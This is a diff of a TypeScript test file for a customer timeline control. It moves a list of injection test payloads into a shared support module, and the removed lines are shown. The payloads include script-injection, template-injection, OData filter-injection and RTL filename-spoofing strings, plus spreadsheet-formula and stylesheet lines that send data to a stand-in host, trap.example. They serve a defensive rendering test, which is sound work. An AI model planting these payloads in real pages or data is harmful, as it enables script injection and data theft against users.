@@ -4,25 +4,9 @@ import * as tableShapes from '../../CustomerInsightsTimeline/tables/tableShape';
 import type { InputName } from '../../CustomerInsightsTimeline/host/hostDoor';
 import { createFakeWebApi } from '../support/fakeWebApi';
 import { ORDERS_BEGIN } from '../support/orderRecords';
+import { PAYLOADS } from '../support/payloads';
 import { renderControl } from '../support/renderControl';
 import { IS_LONG_RUN } from '../support/runLength';
-
-/** Each sets `trapped` on the page where anything of it runs, or leads out of the page. */
-const PAYLOADS: readonly string[] = [
-  '<img src="x" onerror="window.trapped = true">',
-  '<script>window.trapped = true</script>',
-  '"><svg onload="window.trapped = true"><a href="javascript:window.trapped=true">x</a></svg>',
-  '<iframe srcdoc="<script>parent.trapped=true</script>"></iframe>',
-  '<form action="https://trap.example/"><input autofocus onfocus="window.trapped=true"></form>',
-  '<base href="https://trap.example/"><link rel="stylesheet" href="https://trap.example/a.css">',
-  '</style><style>*{background:url(https://trap.example/a.png)}</style>',
-  '{{constructor.constructor("window.trapped=true")()}}${window.trapped=true}',
-  'javascript:window.trapped=true//https://trap.example/',
-  'https://user:password@trap.example/\u202egnp.exe',
-  "' or msdynci_customerid ne null or msdynci_x eq '",
-  '=HYPERLINK("https://trap.example/?"&A1,"x")',
-  JSON.stringify({ '<b onclick="window.trapped=true">x</b>': '<img src=x onerror=trapped()>' }),
-];
 
 /** What only markup of the data could bring into the page. */
 const FOREIGN = 'script, img, iframe, object, embed, base, link, form, video, audio, meta';
